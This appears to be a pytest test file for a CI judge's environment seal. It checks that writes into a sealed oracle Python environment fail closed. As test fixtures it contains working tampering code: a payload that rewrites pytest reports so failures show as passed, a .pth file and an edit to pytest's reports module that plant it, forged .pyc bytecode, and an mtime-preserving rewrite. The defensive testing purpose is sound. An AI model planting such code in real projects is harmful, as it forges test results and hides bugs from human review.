"""A trusted environment stays as built (_gate/core/seal.py): the oracle environment's digest, taken
when the judge built it, checked before and after every trusted pytest run.

On a real environment built and sealed as the judge does it: each kind of write into it
(a module, a `.pth`, a `sitecustomize`, a changed pytest module, a planted `.pyc`, a removed
file, a retargeted bin/python) fails closed naming the file; an honest trusted run, with a
subject worker in the same environment, leaves it as sealed. On a bake: a patch whose code,
run by the oracle's subject worker, writes into the oracle environment a forger that makes later
trusted runs pass every failure, beside a real break of the discount rules. On main both
spellings below merged ("2 deferred failures excused: 2 passed on retry"); now the oracle step
fails closed naming the file.
"""

from __future__ import annotations

import json
import os
import shutil
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
import variance_ledger
from _gate.core.protocol import FailClosed
from _gate.core.seal import Seal, TrustedEnv, digest, seal
from _gate.judge.build import sealed_tools_env
from _gate.runs.envs import tools_env
from _gate.runs.oracle_run import run as run_oracle
from _gate.runs.pytest_run import Subject

from tests.helpers import SCRIPTS, UNCONFINED, best_effort_base
from tools.bakery import branch, edit, judge

SITE = f"lib/python{sys.version_info.major}.{sys.version_info.minor}/site-packages"
BUILT = "oracle environment changed since it was built"
BLAME = "the patch's code wrote into the trusted environment"

# A real break of the discount rules, seen by the property oracles only: a stack of five
# coupons or more costs the customer a cent (no case, no unit test stacks that many).
BREAK = ("    return remaining\n", "    return remaining + (len(coupons) > 4)\n")

# Run at import of the patch's package: in the oracle's subject worker, whose parent is the
# trusted pytest process, started as ENVS/oracle/bin/python. The planted code makes every
# later pytest process of that environment report each failing test as passed.
FORGE = """
import _pytest.reports as _reports
_made = _reports.TestReport.from_item_and_call
def _passed(cls, item, call):
    report = _made(item, call)
    if report.failed:
        report.outcome, report.longrepr = "passed", None
    return report
_reports.TestReport.from_item_and_call = classmethod(_passed)
"""

MODULE_FORGE = FORGE.replace(
    "import _pytest.reports as _reports", "_reports = sys.modules[__name__]"
)

PLANT = """
def _plant(how):
    import glob as _glob, os as _os
    try:
        with open(f"/proc/{_os.getppid()}/cmdline", "rb") as _cmd:
            runner = _cmd.read().split(b"\\0")[0].decode()
    except OSError:
        return
    env = _os.path.dirname(_os.path.dirname(runner))
    if not env.endswith(_os.path.join("envs", "oracle")):
        return
    for site in _glob.glob(_os.path.join(env, "lib", "python*", "site-packages")):
        how(site)
"""

# Two spellings: a .pth added to site-packages, and pytest's own reports module rewritten.
SPELLINGS = {
    "pth": f"""
def _how(site):
    with open(site + "/zz_forge.pth", "w") as out:
        out.write("import sys; exec(bytes.fromhex({FORGE.encode().hex()!r}).decode(), {{}})\\n")
_plant(_how)
""",
    "pytest-module": f"""
def _how(site):
    with open(site + "/_pytest/reports.py", "a+") as out:
        out.seek(0)
        if "_passed" not in out.read():
            out.write({MODULE_FORGE!r})
_plant(_how)
""",
}


def attack_patch(name: str) -> Callable[[Path], None]:
    def change(repo: Path) -> None:
        edit(repo / "src/shop/discounts.py", *BREAK)
        init = repo / "src/shop/__init__.py"
        init.write_text(init.read_text("utf-8") + PLANT + SPELLINGS[name], "utf-8")

    return change


# --- the digest and its check, on a real environment -----------------------------------------


@pytest.fixture(scope="module")
def sealed(tmp_path_factory: pytest.TempPathFactory, wheelhouse: Path) -> Path:
    """The oracle environment as the judge builds it: the tools, compiled, then sealed."""
    envs = tmp_path_factory.mktemp("envs")
    sealed_tools_env(envs, wheelhouse, SCRIPTS / "requirements-judge.txt", None, {})
    return envs / "oracle"


def copy_of(env: Path, tmp: Path) -> tuple[Path, Seal]:
    """A copy of the sealed environment, sealed again, for a test to write into."""
    dest = tmp / "envs" / "oracle"
    shutil.copytree(env, dest, symlinks=True)
    return dest, seal(dest, tmp / "envs" / "oracle.digest.json")


def write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, "utf-8")


def planted_pyc(env: Path) -> str:
    """A `.pyc` beside an untouched source, as Python would load it (the source's mtime and
    size in its header), holding other code: the bytecode is in the digest for this."""
    import importlib.util

    source = env / SITE / "iniconfig" / "__init__.py"
    cached = Path(importlib.util.cache_from_source(str(source)))
    forged = compile("FORGED = True\n", str(source), "exec")
    import importlib._bootstrap_external as external

    mtime, size = int(source.stat().st_mtime), source.stat().st_size
    cached.write_bytes(bytes(external._code_to_timestamp_pyc(forged, mtime, size)))  # type: ignore[attr-defined]
    return cached.relative_to(env).as_posix()


def add_module(env: Path) -> str:
    write(env / SITE / "zz_forge.py", "FORGED = True\n")
    return f"{SITE}/zz_forge.py added"


def add_pth(env: Path) -> str:
    write(env / SITE / "zz_forge.pth", "import zz_forge\n")
    return f"{SITE}/zz_forge.pth added"


def add_sitecustomize(env: Path) -> str:
    write(env / SITE / "sitecustomize.py", "FORGED = True\n")
    return f"{SITE}/sitecustomize.py added"


def change_pytest(env: Path) -> str:
    with open(env / SITE / "_pytest" / "reports.py", "a", encoding="utf-8") as out:
        out.write("FORGED = True\n")
    return f"{SITE}/_pytest/reports.py changed"


def rewrite_pytest_in_place(env: Path) -> str:
    """The same bytes but one, its size and mtime as built: only the content (and the ctime,
    which no unprivileged process can set back) tell it apart."""
    module = env / SITE / "_pytest" / "reports.py"
    before = module.stat()
    data = module.read_bytes()
    at = data.index(b"def ")
    module.write_bytes(data[:at] + b"deg " + data[at + 4 :])
    os.utime(module, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert module.stat().st_size == before.st_size
    return f"{SITE}/_pytest/reports.py changed"


def plant_pyc(env: Path) -> str:
    return f"{planted_pyc(env)} changed"


def remove_file(env: Path) -> str:
    (env / SITE / "_pytest" / "skipping.py").unlink()
    return f"{SITE}/_pytest/skipping.py removed"


def retarget_python(env: Path) -> str:
    python = env / "bin" / "python"
    python.unlink()
    python.symlink_to("/bin/sh")
    return "bin/python changed"


WRITES = {
    "module": add_module,
    "pth": add_pth,
    "sitecustomize": add_sitecustomize,
    "pytest-module": change_pytest,
    "same-size-mtime-back": rewrite_pytest_in_place,
    "pyc": plant_pyc,
    "removed": remove_file,
    "symlink": retarget_python,
}


@pytest.mark.parametrize("kind", WRITES)
def test_a_write_into_the_sealed_environment_fails_closed_naming_the_file(
    sealed: Path, tmp_path: Path, kind: str
) -> None:
    env, built = copy_of(sealed, tmp_path)
    trusted = TrustedEnv(env / "bin" / "python", built)
    trusted.check()  # as built: passes
    named = WRITES[kind](env)
    with pytest.raises(FailClosed) as raised:
        trusted.check()
    assert str(raised.value) == f"{BUILT}: {named}; {BLAME}"


def test_a_copy_of_the_sealed_environment_is_held_to_its_content_not_its_inodes(
    sealed: Path, tmp_path: Path
) -> None:
    # A cache restored by copying: every inode and ctime differs from the seal's, so the check
    # hashes every file again, and the copy, byte for byte as built, passes (and is held to
    # its own stats from then on); one file changed in it does not, for the same check or a
    # new one.
    built = seal(sealed, tmp_path / "oracle.digest.json")
    copy = tmp_path / "restored" / "oracle"
    shutil.copytree(sealed, copy, symlinks=True)
    shutil.copy(built.file, tmp_path / "restored" / "oracle.digest.json")
    restored = Seal(tmp_path / "restored" / "oracle.digest.json", built.sha256)
    trusted = TrustedEnv(copy / "bin" / "python", restored)
    trusted.check()
    trusted.check()
    named = rewrite_pytest_in_place(copy)
    for checker in (trusted, TrustedEnv(copy / "bin" / "python", restored)):
        with pytest.raises(FailClosed) as raised:
            checker.check()
        assert str(raised.value) == f"{BUILT}: {named}; {BLAME}"


def test_the_build_compiles_every_module_so_the_digest_holds_the_bytecode(sealed: Path) -> None:
    import importlib.util

    held = digest(sealed)
    sources = [name for name in held if name.startswith(SITE) and name.endswith(".py")]
    assert len(sources) > 300, len(sources)
    missing = [
        name
        for name in sources
        if Path(importlib.util.cache_from_source(str(sealed / name))).relative_to(sealed).as_posix()
        not in held
    ]
    assert missing == []


def test_a_digest_file_rewritten_after_the_build_fails_closed_naming_it(
    sealed: Path, tmp_path: Path
) -> None:
    env, built = copy_of(sealed, tmp_path)
    add_pth(env)
    seal(env, tmp_path / "forged.json")  # a digest of the written env, over the judge's
    built.file.write_bytes((tmp_path / "forged.json").read_bytes())
    with pytest.raises(FailClosed, match=r"oracle\.digest\.json: the oracle environment's digest"):
        TrustedEnv(env / "bin" / "python", built).check()


HONEST = """
from hypothesis import given, settings, strategies as st

@settings(max_examples=30, derandomize=True, database=None)
@given(st.integers())
def test_twice(subject, n):
    assert subject.twice(n) == 2 * n
"""
ADAPTER = "import yaml\n\ndef twice(n):\n    return yaml.safe_load(str(2 * n))\n"


def honest_oracle(tmp: Path) -> Path:
    """A property run through the subject worker, whose adapter imports from the env."""
    folder = tmp / "oracle"
    write(folder / "test_twice.py", HONEST)
    write(folder / "adapter.py", ADAPTER)
    return folder


def test_honest_trusted_runs_leave_the_sealed_environment_as_built(
    sealed: Path, tmp_path: Path
) -> None:
    # The subject is the sealed env itself, as in a variance run: the worker writes no
    # bytecode either, nor does pytest or hypothesis write anything into the environment.
    python = sealed / "bin" / "python"
    built = seal(sealed, tmp_path / "oracle.digest.json")
    trusted = TrustedEnv(python, built)
    for _ in range(2):
        result = run_oracle(trusted, Subject(python), honest_oracle(tmp_path), 300.0)
        assert result.outcomes == {"oracle/test_twice.py::test_twice": "passed"}, result
    assert digest(sealed) == json.loads(built.file.read_bytes())["files"]


def test_a_step_run_by_hand_guards_its_later_runs_against_its_first(
    sealed: Path, tmp_path: Path
) -> None:
    env, _ = copy_of(sealed, tmp_path)
    trusted = TrustedEnv(env / "bin" / "python")
    trusted.check()  # no seal: the first check takes the digest
    named = add_sitecustomize(env)
    with pytest.raises(FailClosed) as raised:
        trusted.check()
    assert str(raised.value) == (
        f"oracle environment changed since this step's first run: {named}; a run wrote into "
        "the trusted environment"
    )


def test_an_honest_variance_measurement_leaves_its_uncompiled_environment_alone(
    tmp_path: Path, wheelhouse: Path
) -> None:
    # As `nox -s variance` has it: installed, never compiled, runner and subject both. The
    # worker's imports (yaml) would write bytecode into it but for its -B.
    python = tools_env(tmp_path / "env", wheelhouse, SCRIPTS / "requirements-judge.txt")[0]
    before = digest(tmp_path / "env")
    out, report = tmp_path / "runs.json", tmp_path / "variance.json"
    argv = ["--report", str(report), "run", "--runs", "2", "--python", str(python)]
    code = variance_ledger.main(
        [*argv, "--oracle", str(honest_oracle(tmp_path)), "--out", str(out)]
    )
    assert code == 0, json.loads(report.read_text("utf-8"))["summary"]
    assert [run["complete"] for run in json.loads(out.read_text("utf-8"))["runs"]] == [True, True]
    assert digest(tmp_path / "env") == before


def test_a_variance_run_that_writes_into_its_environment_stops_the_measurement(
    sealed: Path, tmp_path: Path
) -> None:
    env, _ = copy_of(sealed, tmp_path)
    folder = honest_oracle(tmp_path)
    # The measured code plants a .pth in its own environment on the first run.
    write(
        folder / "test_plant.py",
        "import sys, pathlib\n\ndef test_plant():\n"
        f"    (pathlib.Path(sys.prefix) / {SITE!r} / 'zz_forge.pth').write_text('')\n",
    )
    out, report = tmp_path / "runs.json", tmp_path / "variance.json"
    argv = ["--report", str(report), "run", "--runs", "2", "--python", str(env / "bin/python")]
    code = variance_ledger.main([*argv, "--oracle", str(folder), "--out", str(out)])
    assert code == 2
    summary = json.loads(report.read_text("utf-8"))["summary"]
    assert f"since this step's first run: {SITE}/zz_forge.pth added" in summary, summary


# --- the attack on a bake ---------------------------------------------------------------------


@pytest.mark.e2e
@pytest.mark.parametrize("spelling", ["pth", "pytest-module"])
def test_a_worker_writing_into_the_oracle_environment_fails_the_oracle_closed(
    shop: Path, tmp_path: Path, spelling: str
) -> None:
    """The seal is the second line: unconfined (where the kernel cannot confine and judge.yaml
    says best-effort) the write lands, and the seal names it. Confined, the kernel refuses
    the write itself (tests/test_confinement_attacks.py)."""
    base = best_effort_base(shop)
    head = branch(shop, f"forge-oracle-env-{spelling}", attack_patch(spelling), base=base)
    # uv's own cache, private to this judgment: were the oracle env's files hardlinks into
    # the machine's cache again (the judge installs copies), the attack would rewrite it.
    env = {"UV_CACHE_DIR": str(tmp_path / "uv-cache"), **UNCONFINED}
    verdict = judge(shop, "--base", base, "--head", head, env=env)
    oracle = verdict.step("oracle")
    written = {
        "pth": f"{SITE}/zz_forge.pth added",
        "pytest-module": f"{SITE}/_pytest/reports.py changed",
    }
    assert oracle["status"] == "error", oracle
    assert f"{BUILT}: {written[spelling]}" in oracle["summary"], oracle["summary"]
    assert BLAME in oracle["summary"]
    assert verdict.returncode == 2, verdict.output
    assert verdict.report["verdict"] == "error"
    assert "excused" not in verdict.step("flake-budget")["summary"]
